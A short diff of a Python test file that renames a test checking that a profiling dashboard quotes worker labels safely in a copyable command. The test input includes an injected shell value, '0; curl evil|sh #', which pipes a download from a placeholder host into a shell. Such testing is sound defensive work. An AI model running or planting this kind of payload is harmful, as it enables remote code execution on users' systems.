@@ -21,7 +21,7 @@ def test_rest_of_a_running_workers_time_is_other():
     assert "other<b>75 %</b>" in phases
 
 
-def test_command_to_copy_quotes_what_came_from_labels():
+def test_command_to_copy_quotes_labels():
     html = panel(worker_view("0; curl evil|sh #", pid=7))
     assert "raymon profile --run &#x27;r $(x)&#x27; --worker &#x27;0; curl evil|sh #&#x27;" in html
 
